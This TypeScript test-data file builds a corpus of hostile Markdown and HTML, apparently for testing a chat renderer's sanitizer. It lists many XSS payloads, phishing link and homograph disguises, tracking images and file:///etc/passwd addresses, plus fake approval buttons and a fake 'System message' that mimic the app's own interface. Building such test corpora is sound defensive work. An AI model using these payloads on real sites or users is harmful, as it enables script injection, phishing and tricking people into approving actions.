/* Over 300 lines because it is data: one hostile text a line, in kinds. */

/** A text that tries to run, to fetch, to lead astray or to dress up. */
export interface HostileText {
  /** The kind, and which one of its kind. */
  readonly name: string
  readonly text: string
}

/** Every text of the corpus; each is there once. Scripts that run would call `canary()` or `alert()`. */
export function hostileMarkdown(): readonly HostileText[] {
  const kinds: Record<string, readonly string[]> = {
    'a link to a bad address': badAddresses.map((address) => `[a](${address}) b`),
    'a link in angle brackets to a bad address': badAddresses
      .slice(0, 30)
      .map((address) => `[a](<${address}>) b`),
    'a reference to a bad address': badAddresses.map((address) => `[a] [b][a]\n\n[a]: ${address}\n\nc`),
    'an autolink to a bad address': badAddresses.map((address) => `<${address}> b`),
    'an image of a bad address': badAddresses
      .filter((address) => /^(?:data|file|blob|[/\\]|http)/i.test(address))
      .map((address) => `![a](${address} "t") b`),
    'a host that is not what it seems': hosts,
    'an address that changes while it grows': growing,
    'an address in a sentence, a tag of the list, a formula in brackets': sentences,
    'a link text that lies': lies,
    'a title that breaks out': titles,
    'an image': images,
    'raw HTML': html,
    'HTML that browsers repair': repaired,
    'a fence': fences,
    'a formula': formulas,
    'a footnote, a table or a task': structures,
    'a name of JavaScript': names,
    'characters nobody sees': invisible,
    'our own looks': impersonations,
  }
  const texts = new Set<string>()
  return Object.entries(kinds).flatMap(([kind, list]) =>
    list.flatMap((text, index) => {
      if (texts.has(text)) return []
      texts.add(text)
      return { name: `${kind}, ${index + 1}`, text }
    }),
  )
}

/** One text a line; `⏎` is a line break within one. */
function lines(list: string): string[] {
  return list
    .split('\n')
    .map((line) => line.trim().replaceAll('⏎', '\n'))
    .filter((line) => line !== '')
}

const badAddresses = [
  ...lines(String.raw`
    javascript:canary()
    JAVASCRIPT:canary()
    jAvAsCrIpT:canary()
    javascript://a.example/%0acanary()
    javascript:/*https://a.example/*/canary()
    javascript:canary();//https://a.example
    javascript&colon;canary()
    javascript&#58;canary()
    javascript&#x3a;canary()
    javascript&#0000058canary()
    &#106;avascript:canary()
    &#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:canary()
    java&Tab;script:canary()
    java&NewLine;script:canary()
    java&#9;script:canary()
    java&#10;script:canary()
    java&#13;script:canary()
    &#1;javascript:canary()
    &#32;javascript:canary()
    &nbsp;javascript:canary()
    &ZeroWidthSpace;javascript:canary()
    java&shy;script:canary()
    %6aavascript:canary()
    javascript%3acanary()
    javascript%253acanary()
    java\script:canary()
    javascript\:canary()
    \javascript:canary()
    x-javascript:canary()
    feed:javascript:canary()
    view-source:javascript:canary()
    livescript:canary()
    mocha:canary()
    vbscript:msgbox(1)
    VbScRiPt:msgbox(1)
    vbscript&colon;msgbox(1)
    data:text/html,<script>canary()</script>
    DATA:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==
    data:image/svg+xml,%3Csvg%20onload=canary()%3E
    data&colon;text/html,canary
    data:,x
    file:///etc/passwd
    FILE://evil.example/share
    file&#58;///c:/windows
    blob:https://a.example/0-0
    filesystem:https://a.example/temporary/x
    about:blank
    ftp://evil.example/x
    ws://evil.example/
    chrome://settings
    ms-word:ofe|u|https://evil.example/x.docx
    intent://evil.example#Intent;scheme=http;end
    tel:+1900123456
    sms:+1900123456?body=x
    urn:x:y
    //evil.example/x
    ///evil.example/x
    /\evil.example/x
    \\evil.example\x
    /api/engine/hitl/respond?answer=yes
    ?answer=yes
    #root
    ../../settings
    https:evil.example
    https:/evil.example
    http:\\evil.example
    https://
    http://:80/
    https://[::1
    https://a.example:99999/
    https://ex%00ample.example/
    http&colon;//
  `),
  'java\tscript:canary()',
  'java\u00adscript:canary()',
  'java\u200bscript:canary()',
  '\u0001javascript:canary()',
  '\u00a0javascript:canary()',
  '\ufeffjavascript:canary()',
  '\u2028javascript:canary()',
  '\uff4aavascript:canary()',
  'java\u017fcript:canary()',
  'javascript\uff1acanary()',
  'java\u0000script:canary()',
  'https://ev\u200bil.example/',
  'https://evil.example/\ud800',
]

const hosts = [
  ...lines(String.raw`
    [bank](https://bank.example@evil.example/) end
    [bank](https://bank.example:443@evil.example/) end
    [bank](https://bank.example%40evil.example/) end
    [bank](https://bank.example&#64;evil.example/) end
    [bank](https://bank.example&commat;evil.example/) end
    [bank](https://bank.example\@evil.example/) end
    [bank](https://bank.example%2f@evil.example/) end
    [bank](https://bank.example#@evil.example/) end
    [bank](https://bank.example?@evil.example/) end
    [bank](https://user:secret@bank.example/) end
    [bank](https://@evil.example/) end
    [bank](https://evil.example/https://bank.example/) end
    [bank](https://evil.example/?u=https://bank.example) end
    [bank](https://bank.example.evil.example/) end
    [bank](https://bank.example&period;evil.example/) end
    [bank](https://bank.example&sol;evil.example/) end
    [bank](https://xn--bnk-5cd.example/) end
    [bank](https://%65vil.example/) end
    [bank](https://EVIL.EXAMPLE/) end
    [bank](https://evil.example./) end
    [bank](http://0x7f.1/) end
    [bank](http://2130706433/) end
    [bank](http://127.1/) end
    [bank](http://[::ffff:127.0.0.1]/) end
    [bank](http://169.254.169.254/latest/meta-data) end
    [bank](https://evil.example:8443/) end
    [bank](https://bank_example.evil.example/) end
    [bank](https://bank-example.evil.example/%2e%2e/%2e%2e/) end
    [bank](https://evil.example/%E2%80%AEgnp.exe) end
    [bank](https://evil.example\bank.example/) end
    [bank](HTTPS://evil.example/) end
    [bank](hTTps&colon;//evil.example/) end
    [bank](mailto:bank@bank.example?bcc=evil@evil.example&body=secret) end
    [bank](mailto:bank@bank.example,evil@evil.example) end
    [bank](mailto:?subject=x&attach=/etc/passwd) end
    <mailto:a@b.example?cc=evil@evil.example> end
    [bank](mailto:%22%3e%3cimg%20src=x%20onerror=canary()%3e@evil.example) end
  `),
  '[bank](https://b\u0430nk.example/) end',
  '[bank](https://\uff42ank.example/) end',
  '[bank](https://bank\u3002example/) end',
  '[bank](https://bank.example\u2044login.evil.example/) end',
  '[bank](https://bank.example\u2215@evil.example/) end',
  '[bank](https://b\u0131nk.example/) end',
  '[bank](https://\u{1d41b}ank.example/) end',
  '[bank](https://ba\u0307nk.example/) end',
  '[bank](https://xn--.example/) end',
  '[bank](https://\u05d0.example/\u05d1/x) end',
  'https://b\u0430nk.example/ and www.b\u0430nk.example end',
  `[bank](https://${'bank.example.'.repeat(12)}evil.example/) end`,
]

/** Bare, in sentences of other scripts. */
const sentences = lines(String.raw`
  https://bank.example。evil.example/ end
  https://bank.example．evil.example/ end
  https://bank.example｡evil.example/ end
  https://bank.example，evil.example/ end
  https://bank.example،evil.example/ end
  https://bank.example।evil.example/ end
  https://bank.example๚evil.example/ end
  https://bank.example然后evil.example/ end
  https://bank.example@evil.example/ end
  https://bank.example:443@evil.example/ end
  https://bank.example\@evil.example/ end
  https://ｂank.example/ end
  https://bank.example⁄evil.example/ end
  **https://bank.example**。evil.example/ end
  (https://bank.example)）evil.example/ end
  a@bank.example．evil.example end
  H<sub>[a](javascript:canary())</sub> <sub onclick=canary()>x</sub> end
  <details>⏎<summary>[a](javascript:canary())</summary>⏎⏎![p](https://evil.example/p.png)⏎⏎</details>⏎⏎end
  <details ontoggle=canary() open>⏎<summary>x</summary>⏎⏎y⏎⏎</details>⏎⏎end
  <details><summary><script>canary()</script></summary>⏎⏎<details>⏎<details>⏎⏎</details>⏎⏎end
  <kbd><mark><kbd></kbd><script>canary()</script></mark></kbd> end
  \(https://evil.example x\) \[https://evil.example y\] https://ok.example/ end
  [a \(](https://evil.example) b\) end
  a[^n] [b[^n]](https://ok.example/)⏎⏎[^n]: <sup>[c](javascript:canary())</sup>[^n]
`)

const growing = [
  ...lines(String.raw`
    See https://bank.example.evil.example/x now
    See https://bank.example@evil.example/x now
    See https://bank.example:443@evil.example now
    See www.bank.example.evil.example now
    See www.bank.example@evil.example now
    Write to help@bank.example.evil.example now
    See <https://bank.example.evil.example/> now
    See <https://bank.example@evil.example/> now
    See **https://bank.example.evil.example** now
    See _https://bank.example_.evil.example now
    See (https://bank.example.evil.example/a_(b)) now
    See https://bank.example/&quot;onmouseover=canary() now
    See https://bank.example/"onmouseover="canary() now
    See https://bank.example/&lt;script>canary()&lt;/script> now
    See https://bank.example<script>canary()</script> now
    See https://bank.example/\u003cimg now
    See https://bank.example/?a=1&b=2&copy;c=3 now
    See https://bank.example/%zz%2 now
    See https://bank.example-evil.example now
    See https://bank.example%2eevil.example now
    | https://bank.example.evil.example | b |⏎| - | - |⏎| https://bank.example|.evil.example |
    - https://bank.example.⏎  evil.example⏎- www.bank.example
    # https://bank.example.evil.example
    > https://bank.example.evil.example
    [text](https://bank.example.evil.example/path "title") now
    [text](<https://bank.example.evil.example/pa th> "title") now
    [text][ref] first⏎⏎[ref]: https://bank.example.evil.example/path⏎⏎last
    [ref] first⏎⏎[ref]: <https://bank.example.evil.example/path> "title"⏎⏎last
    [ref] first⏎⏎[ref]:⏎  https://bank.example.evil.example/path⏎  'title'⏎⏎last
    [ref] first⏎⏎[ref]: https://first.example/⏎[ref]: https://second.example/⏎⏎last
    [a][b][c] first⏎⏎[c]: https://c.example/⏎[b]: https://b.example/⏎⏎last
    ![alt][pic] first⏎⏎[pic]: https://evil.example/p.png⏎⏎last
    [![alt][pic]][ref] first⏎⏎[pic]: https://evil.example/p.png⏎[ref]: https://evil.example/⏎⏎last
    [ref] first⏎⏎> [ref]: https://evil.example/quoted⏎⏎last
    [ref] first⏎⏎- [ref]: https://evil.example/listed⏎⏎last
    xhttps://evil.example and 1www.evil.example and .http://evil.example end
    a.b-c_d@evil.example and a.b-c_d@evil.example- and a@b@evil.example end
  `),
]

const lies = [
  ...lines(String.raw`
    [https://bank.example](https://evil.example/login) end
    [https://bank.example/](https://evil.example/login "https://bank.example/") end
    [bank.example](https://evil.example/) end
    [www.bank.example](https://evil.example/) end
    [**https://bank.example**](https://evil.example/) end
    [*bank*.example](https://evil.example/) end
    [~~https://bank.example~~](https://evil.example/) end
    [https://bank.example][x]⏎⏎[x]: https://evil.example/
    [help@bank.example](mailto:help@evil.example) end
    [help@bank.example](https://evil.example/) end
    [](https://evil.example/) end
    [ ](https://evil.example/) end
    [&nbsp;](https://evil.example/) end
    [&#8203;](https://evil.example/) end
    [&#8238;elpmaxe.knab](https://evil.example/) end
    [https://evil.example](https://evil.example.attacker.example/) end
    [evil.example](https://evil.example:8443/) end
    [http://evil.example](https://evil.example/) end
    [https://evil.example/a](https://evil.example/b) end
    [![https://bank.example](https://evil.example/p.png)](https://evil.example/) end
    [[https://bank.example](https://bank.example)](https://evil.example/) end
    [a](https://evil.example/)[b](https://bank.example/) end
    [a <b>bold</b> <!-- hidden -->](https://evil.example/) end
    [line⏎break](https://evil.example/) end
    [bank.example ⧸ login](https://evil.example/) end
    [Approve](https://evil.example/) [Deny](https://evil.example/no) end
    [x](https://evil.example/ 'a') [x]( https://evil.example/  ) end
    [x]\(https://evil.example/) \[x](https://evil.example/) end
    [bank.example](https://evil.example/bank.example) end
  `),
  '[`https://bank.example`](https://evil.example/) end',
  '[b\u0430nk.example](https://xn--bnk-6cd.example/) end',
  '[\u202eelpmaxe.live//:sptth](https://evil.example/) end',
  '[https://bank.example\u2066](https://evil.example/) \u2069 end',
  '[\u200bhttps://bank.example](https://evil.example/) end',
  '[https://evil.example\u0000](https://evil.example/) end',
  `[https://bank.example${'\u00a0'.repeat(200)}](https://evil.example/) end`,
]

const titles = lines(String.raw`
  [a](https://a.example/ "x\" onmouseover=\"canary()") end
  [a](https://a.example/ "x&quot; onmouseover=&quot;canary()") end
  [a](https://a.example/ 'x" onfocus="canary()" autofocus="') end
  [a](https://a.example/ (x" style="position:fixed)) end
  [a](https://a.example/ "</a><script>canary()</script>") end
  [a](https://a.example/ "&lt;img src=x onerror=canary()&gt;") end
  [a](https://a.example/"onmouseover="canary()) end
  [a](https://a.example/'onmouseover='canary()) end
  [a](<https://a.example/" onmouseover="canary()>) end
  [a](https://a.example/%22onmouseover=%22canary%28%29) end
  [a](https://a.example/&#34;onmouseover=&#34;canary()) end
  [a]: https://a.example/ "x\" onmouseover=\"canary()"⏎⏎[a]
  ![a" onerror="canary()](https://a.example/p.png) end
  ![a](https://a.example/p.png "x\" onerror=\"canary()") end
  ![</span><script>canary()</script>](https://a.example/p.png) end
  <https://a.example/"onmouseover="canary()> end
`)

const images = lines(String.raw`
  ![](https://evil.example/p.png) end
  ![a](https://evil.example/p.png?secret=1) end
  ![a](//evil.example/p.png) end
  ![a](/p.png) ![a](p.png) end
  ![a](<https://evil.example/p q.png>) end
  ![a](http://evil.example/p.png =100x100) end
  ![a][p] end⏎⏎[p]: https://evil.example/p.png
  ![p][] end⏎⏎[p]: https://evil.example/p.png
  ![p] end⏎⏎[p]: https://evil.example/p.png
  ![P] end⏎⏎[p]:⏎https://evil.example/late.png⏎"t"
  [![a](https://evil.example/p.png)](https://a.example/) end
  ![![a](https://evil.example/in.png)](https://evil.example/out.png) end
  ![[a](https://a.example/)](https://evil.example/p.png) end
  **![a](https://evil.example/p.png)** *![b](https://evil.example/q.png)*
  # ![a](https://evil.example/p.png)
  > ![a](https://evil.example/p.png)
  - ![a](https://evil.example/p.png)⏎- [ ] ![b](https://evil.example/q.png)
  | ![a](https://evil.example/p.png) |⏎| - |⏎| ![b](https://evil.example/q.png) |
  x[^1]⏎⏎[^1]: ![a](https://evil.example/p.png)
  ![a](https://evil.example/p.svg#x) ![b](https://evil.example/p.gif) end
  ![a](data:image/png;base64,iVBORw0KGgo=) end
  ![a](data:image/svg+xml;utf8,<svg/onload=canary()>) end
  ![a](blob:https://a.example/1) end
  ![a](https://bank.example@evil.example/p.png) end
  <img src="https://evil.example/p.png"> end
  <img src=x:x onerror=canary()> end
  <IMG SRC=https://evil.example/p.png> end
  <img srcset="https://evil.example/p.png 2x"> end
  <img/src="https://evil.example/p.png"/onerror=canary()> end
  <image href="https://evil.example/p.png"> end
  <picture><source srcset="https://evil.example/p.webp"><img src=x></picture> end
  <svg><image href="https://evil.example/p.png"/></svg> end
  <svg><image xlink:href="https://evil.example/p.png"/></svg> end
  <svg><feImage href="https://evil.example/p.png"/></svg> end
  <video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video> end
  <audio src="https://evil.example/a.mp3" autoplay onplay=canary()></audio> end
  <track src="https://evil.example/t.vtt"> end
  <input type="image" src="https://evil.example/p.png"> end
  <body background="https://evil.example/p.png"> end
  <table background="https://evil.example/p.png"><tr><td>x</table> end
  <div style="background:url(https://evil.example/p.png)">x</div> end
  <div style="background-image:image-set('https://evil.example/p.png' 1x)">x</div> end
  <div style="list-style:url(https://evil.example/p.png);display:list-item">x</div> end
  <div style="cursor:url(https://evil.example/p.cur),auto">x</div> end
`)

const html = lines(String.raw`
  <script>canary()</script>
  <script src="https://evil.example/x.js"></script>
  <script type="module">import "https://evil.example/x.js"</script>
  <script>⏎⏎canary()⏎⏎</script>⏎⏎after
  <SCRIPT/x>canary()</SCRIPT>
  <script
  </script><script>canary()</script>
  a <script>canary()</script> b
  <b onclick="canary()">x</b>
  <p onmouseover=canary()>x</p>
  <a href="javascript:canary()">x</a>
  <a href="https://evil.example/" ping="https://evil.example/ping">x</a>
  <a href="https://evil.example/" target="_top" rel="opener">bank.example</a>
  <a id="x" name="cookie" href="https://evil.example/">x</a>
  <body onload=canary()>
  <body onpageshow=canary()>
  <html onmouseenter=canary()>
  <svg onload=canary()>
  <svg/onload=canary()>
  <svg><script>canary()</script></svg>
  <svg><a href="javascript:canary()"><text y="10">x</text></a></svg>
  <svg><a xlink:href="javascript:canary()"><text y="10">x</text></a></svg>
  <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>
  <svg><use xlink:href="https://evil.example/s.svg#x"/></svg>
  <svg><animate onbegin=canary() attributeName=x dur=1s></svg>
  <svg><set attributeName="href" to="javascript:canary()"/></svg>
  <svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>
  <svg><style>@import "https://evil.example/x.css";</style></svg>
  <math href="javascript:canary()">x</math>
  <math><maction actiontype="statusline" xlink:href="javascript:canary()">x</maction></math>
  <math><annotation-xml encoding="text/html"><img src=x onerror=canary()></annotation-xml></math>
  <iframe src="https://evil.example/"></iframe>
  <iframe src="javascript:canary()"></iframe>
  <iframe srcdoc="<script>parent.canary()</script>"></iframe>
  <iframe onload=canary()></iframe>
  <frameset onload=canary()><frame src="https://evil.example/"></frameset>
  <object data="https://evil.example/x.swf"></object>
  <object data="javascript:canary()"></object>
  <object type="text/html" data="data:text/html,<script>canary()</script>"></object>
  <embed src="https://evil.example/x.swf">
  <applet code="x" codebase="https://evil.example/"></applet>
  <link rel="stylesheet" href="https://evil.example/x.css">
  <link rel="prefetch" href="https://evil.example/">
  <link rel="preconnect" href="https://evil.example/">
  <link rel="dns-prefetch" href="//evil.example">
  <link rel="manifest" href="https://evil.example/m.json">
  <style>@import url(https://evil.example/x.css);</style>
  <style>* { background: url(https://evil.example/p.png) }</style>
  <style>@font-face { font-family: x; src: url(https://evil.example/f.woff2) }</style>
  <style>.ek-prompt { display: none }</style>
  <base href="https://evil.example/">
  <base target="_top">
  <meta http-equiv="refresh" content="0;url=https://evil.example/">
  <meta http-equiv="refresh" content="0;url=javascript:canary()">
  <meta http-equiv="content-security-policy" content="default-src *">
  <meta name="referrer" content="unsafe-url">
  <form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>
  <form><button formaction="javascript:canary()">x</button></form>
  <form id="a"></form><input form="a" type="submit" formaction="https://evil.example/">
  <isindex type="image" src="https://evil.example/p.png">
  <input autofocus onfocus=canary()>
  <select autofocus onfocus=canary()><option>x</select>
  <textarea autofocus onfocus=canary()></textarea>
  <keygen autofocus onfocus=canary()>
  <details open ontoggle=canary()><summary>x</summary></details>
  <marquee onstart=canary()>x</marquee>
  <dialog open oncancel=canary()>x</dialog>
  <div popover id="p" onbeforetoggle=canary()>x</div><button popovertarget="p">x</button>
  <div contenteditable onblur=canary()>x</div>
  <div tabindex=1 onfocus=canary() autofocus>x</div>
  <div style="animation:ek-turn 1s" onanimationstart=canary()>x</div>
  <video><source onerror=canary()></video>
  <video src=x onerror=canary() onloadstart=canary()></video>
  <portal src="https://evil.example/"></portal>
  <fencedframe src="https://evil.example/"></fencedframe>
  <webview src="https://evil.example/"></webview>
  <x-element onclick=canary()>x</x-element>
  <slot name="x"></slot><template shadowrootmode="open"><script>canary()</script></template>
  <noscript><img src=x onerror=canary()></noscript>
  <plaintext>x
  <xmp><script>canary()</script></xmp>
  <bgsound src="https://evil.example/a.wav">
  <layer src="https://evil.example/"></layer>
  <?xml-stylesheet href="https://evil.example/x.css"?>
  <?php canary() ?>
  <!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>
  <!ENTITY x "y"><x>&x;</x>
  <![CDATA[<script>canary()</script>]]>
  <!-- <script>canary()</script> -->
  <!--><script>canary()</script>-->
  <!---><img src=x onerror=canary()>-->
  <!--[if IE]><script>canary()</script><![endif]-->
  <div⏎onclick="canary()"⏎>x</div>
  <div>⏎⏎*text* [a](javascript:canary())⏎⏎</div>
  <a⏎href="https://evil.example/"⏎onclick=canary()>x</a>
  &lt;script&gt;canary()&lt;/script&gt;
  &#60;img src=x onerror=canary()&#62;
  \<script>canary()\</script>
  %3Cscript%3Ecanary()%3C/script%3E
  <scr<script>ipt>canary()</scr</script>ipt>
  <<script>canary();//<</script>
  <script x=">">canary()</script>
  <img src="x" alt="*a*" onerror="canary()"> *emphasis*
`)

const repaired = lines(String.raw`
  <noscript><p title="</noscript><img src=x onerror=canary()>">
  <svg></p><style><a id="</style><img src=x onerror=canary()>">
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary()&gt;">
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>
  <svg><title><style><img src="</style><img src=x onerror=canary()>"></title></svg>
  <svg><desc><noembed></noembed><style><a title="</style><img src=x onerror=canary()>">
  <table><tr><td><a href="javascript:canary()"></table>x
  <p><table><p onclick=canary()></table></p>
  <select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=canary()>">
  <textarea></textarea><img src=x onerror=canary()></textarea>
  <title></title><img src=x onerror=canary()></title>
  <style></style><img src=x onerror=canary()></style>
  <xmp></xmp><img src=x onerror=canary()></xmp>
  <iframe></iframe><img src=x onerror=canary()></iframe>
  <noembed></noembed><img src=x onerror=canary()></noembed>
  <a title="x" title='"><img src=x onerror=canary()>'>x</a>
  <a href="x"y"onmouseover="canary()">x</a>
  <div title='&quot; onclick=&quot;canary()'>x</div>
  <img src="x" onerror = "canary()" =>
  <img """><script>canary()</script>">
  </div></div></main><h1>Out of the box</h1>
  </p></code></pre><script>canary()</script>
  </textarea></script></style></title><svg onload=canary()>
  <b><i></b><img src=x onerror=canary()></i>
  <a><b><a href=javascript:canary()>x</b></a></a>
  <br/onclick=canary()><hr onclick=canary()><wbr onclick=canary()>
  <p/><script/>canary()</p>
  &<script>canary()</script>;
  &amp;lt;script&amp;gt;canary()
  &LT;script&GT;canary()&LT;/script&GT;
`)

const fences = [
  '```"><script>canary()</script>\ncode\n```\nend',
  '```js onclick=canary()\ncode\n```\nend',
  '```js" onmouseover="canary()\ncode\n```\nend',
  '```<img/src=x/onerror=canary()>\ncode\n```\nend',
  '```&lt;script&gt;\ncode\n```\nend',
  '```&#34;onclick=&#34;canary()\ncode\n```\nend',
  '```html\n<script>canary()</script>\n```\nend',
  '```html\n</code></pre><script>canary()</script>\n```\nend',
  '```svg\n<svg onload=canary()><image href="https://evil.example/p.png"/></svg>\n```\nend',
  '```mermaid\ngraph TD; A["<img src=x onerror=canary()>"] --> B; click A "javascript:canary()"\n```\nend',
  '```math\n\\href{javascript:canary()}{x}\n```\nend',
  '```css\n@import url(https://evil.example/x.css);\n```\nend',
  '```__proto__\ncode\n```\nend',
  '```constructor\ncode\n```\nend',
  '```toString\ncode\n```\nend',
  '```../../../etc/passwd\ncode\n```\nend',
  '```https://evil.example/lang.js\ncode\n```\nend',
  '```javascript:canary()\ncode\n```\nend',
  '```ek-button\ncode\n```\nend',
  '```\u0000js\nco\u0000de\n```\nend',
  '```\u202ejs\n\u202ecode\u2066\n```\nend',
  `\`\`\`${'x'.repeat(300)}\ncode\n\`\`\`\nend`,
  '~~~js" style="position:fixed\ncode\n~~~\nend',
  '````\n```\n<script>canary()</script>\n```\n````\nend',
  '- ```html\n  <img src=x onerror=canary()>\n  ```\n- end',
  '> ```html\n> <img src=x onerror=canary()>\nend',
  '```html\n<img src=x onerror=canary()>',
  '    <script>canary()</script>\n\n\tindented <img src=x onerror=canary()>\n\nend',
  '`<script>canary()</script>` and ``<img src=x onerror=`canary()`>`` end',
  '`[a](javascript:canary())` and [`a`](javascript:canary()) end',
  '```py\n"""\n</span><script>canary()</script>\n"""\n```\nend',
  '```js\nconst a = `${"</script><script>canary()</script>"}`\n```\nend',
  '```json\n{"__proto__": {"x": 1}, "a": "<img src=x onerror=canary()>"}\n```\nend',
  '```diff\n-<script>\n+<img src=x onerror=canary()>\n```\nend',
  '```sh\necho \u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\n```\nend',
]

const formulas = lines(String.raw`
  $\href{javascript:canary()}{x}$ end
  $$\href{https://evil.example/}{x}$$ end
  $\url{javascript:canary()}$ end
  $\includegraphics{https://evil.example/p.png}$ end
  $\includegraphics[width=9999em]{https://evil.example/p.png}$ end
  $\htmlClass{ek-button}{x}$ $\class{ek-prompt}{x}$ end
  $\htmlId{root}{x}$ $\id{root}{x}$ end
  $\htmlStyle{position:fixed;inset:0}{x}$ $\style{position:fixed}{x}$ end
  $\htmlData{state=answered}{x}$ $\data{state=answered}{x}$ end
  $\text{<script>canary()</script>}$ end
  $\text{<img src=x onerror=canary()>}$ end
  $\text{"onmouseover="canary()}$ end
  $$\unicode{<img src=x onerror=canary()>}$$ end
  $\def\a{\a\a}\a$ end
  $\def\a#1{#1#1#1}\a{\a{\a{\a{\a{x}}}}}$ end
  $\newcommand{\b}{\b}\b$ $\let\c\c\c$ end
  $\color{url(https://evil.example/p.png)}{x}$ end
  $\colorbox{url(https://evil.example/)}{x}$ $\bbox[url(https://evil.example/)]{x}$ end
  $\rule{9999em}{9999em}$ $\kern{-9999em}x$ $\raisebox{9999em}{x}$ end
  $\require{html}$ $\mathml{<script>canary()</script>}$ end
  $$⏎\begin{array}{c}a\\[9999em]b\end{array}⏎$$⏎⏎end
  $$⏎<script>canary()</script>⏎$$⏎⏎end
  $\ref{x} \label{x} \tag{<b>x</b>}$ end
  \(\href{javascript:canary()}{x}\) \[\url{javascript:canary()}\] end
`)

const structures = lines(String.raw`
  x[^1]⏎⏎[^1]: <script>canary()</script>
  x[^1]⏎⏎[^1]: [a](javascript:canary()) ![b](https://evil.example/p.png)
  x[^"><img/src=x/onerror=canary()>]⏎⏎[^"><img/src=x/onerror=canary()>]: note
  x[^__proto__] y[^constructor]⏎⏎[^__proto__]: note⏎[^constructor]: note
  x[^root]⏎⏎[^root]: note that would be called root
  x[^a b]⏎⏎[^a b]: note
  x[^1][^1][^2]⏎⏎[^1]: one[^2]⏎⏎[^2]: two[^1]
  x[^%22onclick=canary()]⏎⏎[^%22onclick=canary()]: note
  x^[inline <script>canary()</script>]
  [^1]: a definition that nobody uses ![p](https://evil.example/p.png)
  | a |⏎| :--" style="position:fixed |⏎| b |
  | <script>canary()</script> |⏎| - |⏎| <img src=x onerror=canary()> |
  | [a](javascript:canary()) |⏎| - |⏎| ![a](https://evil.example/p.png) |
  | a \| <b onclick=canary()> |⏎| - |⏎| x |
  | a⏎| -⏎| [b⏎| c](javascript:canary())
  - [x] <input onclick=canary()>⏎- [ ] <b onclick=canary()>
  - [x](javascript:canary())⏎- [ ](https://evil.example/)
  - [x]: javascript:canary()⏎- [x]
  1. <script>canary()</script>⏎999999999. x⏎9999999999. y
  -1. x⏎0. [a](javascript:canary())
  > <script>⏎> canary()⏎> </script>
  # <script>canary()</script> {#root onclick=canary()}
  Heading <img src=x onerror=canary()>⏎===
  ~~<script>canary()</script>~~ **<img src=x onerror=canary()>**
  :::danger{onclick=canary()}⏎x⏎:::
  [[toc]] {{constructor.constructor('canary()')()}} <%= canary() %> #{canary()}
  [a]{onclick=canary() style="position:fixed"} end
  ---⏎title: "<script>canary()</script>"⏎---⏎⏎end
  @[video](https://evil.example/v) @import "https://evil.example/x.css" end
  Term⏎: <script>canary()</script>
  *[HTML]: <script>canary()</script>⏎⏎HTML
`)

const names = lines(String.raw`
  [__proto__] [constructor] [toString]⏎⏎[__proto__]: https://a.example/1
  [a][__proto__]⏎⏎[__proto__]: javascript:canary()
  [constructor][]⏎⏎[constructor]: https://evil.example/
  [hasOwnProperty] [valueOf] [prototype] end
  ![toString][__proto__] end
  <__proto__ onclick=canary()>x</__proto__>
  __proto__ **constructor** ~~toString~~ &__proto__; &constructor; &toString;
  [a]: https://a.example/⏎[A]: javascript:canary()⏎⏎[a] [A]
  [ẞ]: https://a.example/⏎⏎[SS] [ß] [ẞ]
  [\]]: javascript:canary()⏎⏎[\]]
`)

const invisible = [
  'a\u0000b <scr\u0000ipt>canary()</scr\u0000ipt>',
  '[a](java\u0000script:canary()) ![a](https://evil.example/\u0000p.png)',
  'lone \ud800 surrogate [a](https://a.example/\udfff) end',
  '\udc00\ud800 **\ud83d** `\ude00` end',
  '```\ud800\n\udfff\n```\n\ud83d',
  '[\ud800]: https://a.example/\n\n[\ud800]',
  '\ufeff# title\n\ufeff<script>canary()</script>',
  '\u2028<script>canary()</script>\u2029[a](javascript:canary())',
  'run \u202e)(yranac:tpircsavaj\u202c now',
  '\u202e[a](https://evil.example/)\u202c and \u2067[b](https://evil.example/)',
  '\u200b<\u200bscript>canary()</script>',
  'ta\u{e0067}\u{e0062}g characters \u{e007f} [a](https://a.example/\u{e0061})',
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(8),
  '\u001b[2J\u001b[1;1H\u001b]0;title\u0007 <script>canary()</script>',
  '\u001b]8;;javascript:canary()\u001b\\click\u001b]8;;\u001b\\',
  '\u009b31m \u0085<script>canary()</script>\u0085',
  'one\rtwo\r\nthree\r<script>canary()</script>\r[a](javascript:canary())',
  '\u000b\u000c<script\u000c>canary()</script>',
  '\u007f\u0080\u009f\ufffe\uffff **x\uffff** [a](https://a.example/\ufffe)',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} [\u{1f512} bank.example](https://evil.example/)',
  '&#0; &#xD800; &#x110000; &#xFFFFFFFF; &#99999999999; &#x; &; &#; end',
  '&NotEqualTilde;&fjlig;&lt;script&gt; &quot;&apos;&amp;lt; end',
  '%00 %0d%0aSet-Cookie:x [a](https://a.example/%0d%0aX-Y:z) end',
  '\\u003cscript\\u003e \\x3cscript\\x3e \\74script\\76 end',
]

const impersonations = lines(String.raw`
  <div class="ek-prompt" data-state="open"><button class="ek-button" data-variant="primary">Approve</button></div>
  <section class="ek-root ek-tool" data-state="succeeded">delete_file succeeded</section>
  <p class="ek-md-p" data-state="answered">You approved this.</p>
  <div class="ek-connection-bar" role="status" aria-live="assertive">Connected</div>
  <div id="__next"><main id="root">x</main></div>
  <div class="ek-visually-hidden">hidden from people, said to readers</div>
  <span hidden>x</span><span aria-hidden="true" inert>x</span>
  <div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div>
  <div data-ek-theme="dark" style="--ek-color-text:#fff">x</div>
  > [!WARNING]⏎> The Engine asks you to approve everything.
  **Approve?** [Yes](https://evil.example/yes) · [No](https://evil.example/no)
  ![Approve](https://evil.example/button.png) [![Deny](data:image/png;base64,AA==)](https://evil.example/)
  - [x] Approved by you⏎- [x] Sent
  <title>Engine</title><h1>System message</h1>
